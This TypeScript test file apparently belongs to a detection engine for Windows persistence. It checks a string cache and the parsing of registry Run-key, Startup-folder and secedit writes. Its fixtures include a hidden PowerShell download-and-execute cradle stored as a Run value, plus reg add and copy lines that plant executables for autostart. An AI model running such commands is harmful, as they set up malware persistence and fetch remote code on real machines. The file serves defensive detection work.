// The caches the per-event stage keeps for inputs a log repeats: results must be those of the
// uncached work, for equal strings only, and shared results must not leak between candidates.

import { describe, expect, it } from 'vitest';
import { StringCache } from '../../../shared/detect/collections';
import { commandLineWrites } from '../../../shared/detect/command-line';
import { detectCandidate } from '../../../shared/detect/engine';
import { procStart, regSet } from './helpers';

describe('StringCache', () => {
  it('gives the value made for an equal string, and makes one for every other string', () => {
    const c = new StringCache<string>(4);
    let made = 0;
    const make = (s: string) => {
      made++;
      return `v:${s}`;
    };
    // same length and the same sampled characters, different elsewhere: a slot collision that
    // only equality can tell apart
    const a = 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule0';
    const b = a.replace('netsvcs', 'netsvcz');
    expect(b.length).toBe(a.length);
    expect(c.get(a, make)).toBe(`v:${a}`);
    expect(c.get(b, make)).toBe(`v:${b}`);
    expect(c.get(a, make)).toBe(`v:${a}`);
    // a fresh string object with the same text is a hit
    const fresh = ['C:\\Windows\\system32\\svchost.exe', ' -k netsvcs -p -s Schedule0'].join('');
    const before = made;
    expect(c.get(fresh, make)).toBe(`v:${a}`);
    expect(made).toBe(before);
    for (let i = 0; i < 200; i++) expect(c.get(`k${i}`, make)).toBe(`v:k${i}`);
    expect(c.get('', make)).toBe('v:');
  });
});

describe('StringCache slot pairs', () => {
  it('keeps two strings that share a slot pair while they alternate, and drops the one used less lately for a third', () => {
    const c = new StringCache<string>(6);
    const slot = (s: string) => (c as unknown as { slot(s: string): number }).slot(s);
    // command lines that differ in a digit or two, as a program's pipe or session ids do: find
    // three on one pair
    const variants = Array.from({ length: 400 }, (_, i) => `"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\Pipe${String(i).padStart(3, '0')}_ 1 -2147483646`);
    const bySlot = new Map<number, string[]>();
    for (const v of variants) bySlot.set(slot(v), [...(bySlot.get(slot(v)) ?? []), v]);
    const [a, b, d] = [...bySlot.values()].find((x) => x.length >= 3) ?? [];
    expect(d).toBeDefined();
    const made: string[] = [];
    const make = (s: string) => {
      made.push(s);
      return `v:${s}`;
    };
    for (let k = 0; k < 10; k++) {
      expect(c.get(a, make)).toBe(`v:${a}`);
      expect(c.get(b, make)).toBe(`v:${b}`);
    }
    expect(made).toEqual([a, b]);
    // b was used last: d takes a's place, b stays
    expect(c.get(d, make)).toBe(`v:${d}`);
    expect(c.get(b, make)).toBe(`v:${b}`);
    expect(made).toEqual([a, b, d]);
    expect(c.get(a, make)).toBe(`v:${a}`);
    expect(made).toEqual([a, b, d, a]);
  });
});

describe('repeated inputs in the per-event stage', () => {
  it('reads a repeated command line the same way each time, and hands out frozen results', () => {
    const cmd = 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Upd /d "C:\\Users\\Public\\u.exe" /f';
    const first = commandLineWrites(cmd);
    const again = commandLineWrites([cmd.slice(0, 10), cmd.slice(10)].join(''));
    expect(first.length).toBe(1);
    expect(again).toEqual(first);
    expect(Object.isFrozen(first) && Object.isFrozen(first[0])).toBe(true);
    expect(commandLineWrites('notepad.exe C:\\run\\notes.txt')).toEqual([]);
  });

  it('reads each of many lines alike in length and sampled characters right, however they alternate', () => {
    // a service's starts that differ only in numbers (SearchProtocolHost's pipes) share the
    // cache's slot pairs; every other one here writes a Run value named for its number
    const line = (i: number) => {
      const n = String(i).padStart(3, '0');
      return i % 2
        ? `"C:\\Windows\\system32\\reg.exe" add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Pipe${n} /d C:\\Users\\Public\\p${n}.exe /f`
        : `"C:\\Windows\\system32\\reg.exe" query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Pipe${n} /d C:\\Users\\Public\\p${n}.exe /f`;
    };
    for (let round = 0; round < 3; round++) {
      for (let i = 0; i < 600; i++) {
        // a fresh string object each time, as a reader that does not share equal values gives
        const w = commandLineWrites([line(i).slice(0, 7), line(i).slice(7)].join(''));
        if (i % 2) {
          expect(w.map((x) => [x.kind, x.valueName, x.data])).toEqual([['registry', `Pipe${String(i).padStart(3, '0')}`, `C:\\Users\\Public\\p${String(i).padStart(3, '0')}.exe`]]);
        } else {
          expect(w).toEqual([]);
        }
      }
    }
  });

  it('sees a Startup folder named in any case, and secedit in any case', () => {
    const copy = commandLineWrites('cmd /c copy C:\\Users\\Public\\x.lnk "C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Windows\\START MENU\\Programs\\StartUp\\x.lnk"');
    expect(copy.map((x) => x.kind)).toEqual(['startup-file']);
    expect(commandLineWrites('powershell Copy-Item C:\\Users\\Public\\y.vbs \\"$env:ProgramData\\Microsoft\\Windows\\START MENU\\Programs\\startup\\"').map((x) => [x.kind, x.targetFile])).toEqual([['startup-file', '%ProgramData%\\Microsoft\\Windows\\START MENU\\Programs\\startup\\y.vbs']]);
    // Shell:Common Startup is an Explorer name, not a PowerShell drive (and unquoted it is two
    // arguments): that Copy-Item fails, and the old regex reader was wrong to call it a write
    expect(commandLineWrites('powershell Copy-Item C:\\Users\\Public\\y.vbs Shell:Common Startup')).toEqual([]);
    expect(commandLineWrites('cmd /c SecEdit /Configure /db C:\\Windows\\Temp\\x.sdb /cfg C:\\Windows\\Temp\\run.inf').map((x) => [x.kind, x.data])).toEqual([['security-template', 'C:\\Windows\\Temp\\run.inf']]);
  });

  it('explains the same write on two hosts alike, each candidate owning its reasons', () => {
    const target = 'HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater';
    const data = 'powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://x/a\')"';
    const a = detectCandidate(regSet(target, data, { host: 'WS1', image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe' }));
    const b = detectCandidate(regSet(target, data, { host: 'WS2', image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe' }));
    if (!a || !b) throw new Error('no candidate');
    expect(b.reasons).toEqual(a.reasons);
    expect(b.attack).toEqual(a.attack);
    expect([a.host, b.host]).toEqual(['WS1', 'WS2']);
    expect(a.id).not.toBe(b.id);
    a.reasons.push({ id: 'x', title: 'x', weight: 1, attack: [], explanation: 'x' });
    a.reasons[0].attack.push('T0000');
    a.attack.push('T0000');
    const c = detectCandidate(regSet(target, data, { host: 'WS3', image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe' }));
    expect(c?.reasons).toEqual(b.reasons);
    expect(c?.attack).toEqual(b.attack);
    // another writer is another explanation
    const d = detectCandidate(regSet(target, data, { host: 'WS1', image: 'C:\\Users\\bob\\AppData\\Local\\Temp\\x.exe' }));
    expect(d?.reasons.map((r) => r.id)).not.toEqual(b.reasons.map((r) => r.id));
    // the command line seen on a process start is explained as one
    const p = detectCandidate(procStart('C:\\Windows\\System32\\reg.exe', `reg add "${target.replace(/\\Updater$/, '')}" /v Updater /d "${data.replace(/"/g, '\\"')}" /f`));
    expect(p?.basis).toBe('command-line');
  });
});
